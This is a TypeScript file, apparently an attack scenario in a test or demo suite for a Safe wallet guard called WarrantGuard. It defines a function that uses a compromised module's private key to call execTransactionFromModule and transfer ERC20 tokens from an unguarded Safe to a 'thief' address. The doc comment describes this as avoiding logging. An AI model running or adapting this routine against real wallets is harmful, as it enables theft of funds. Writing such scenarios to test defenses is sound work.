import { encodeFunctionData, parseAbi } from 'viem'
import { privateKeyToAccount } from 'viem/accounts'
import { ERC20_ABI } from '#runtime/chain/abi.ts'
import { type SentToModule, sendToModule } from './sendToModule.ts'

const SAFE_ABI = parseAbi([
  'function execTransactionFromModule(address to, uint256 value, bytes data, uint8 operation) returns (bool)',
])

/** Holds the key of another module that a Safe without WarrantGuard has enabled. Takes its dollars, past every log. */
export async function unexplainedOutflow({
  ethKey,
  rpc,
  chainId,
  safe,
  token,
  amount,
}: {
  ethKey: string
  rpc: string
  chainId: number
  safe: string
  token: string
  amount: string
}): Promise<SentToModule> {
  const thief = privateKeyToAccount(ethKey as `0x${string}`).address
  const transfer = encodeFunctionData({ abi: ERC20_ABI, functionName: 'transfer', args: [thief, BigInt(amount)] })
  const data = encodeFunctionData({
    abi: SAFE_ABI,
    functionName: 'execTransactionFromModule',
    args: [token as `0x${string}`, 0n, transfer, 0],
  })
  return sendToModule({ rpc, chainId, module: safe, key: ethKey, data })
}
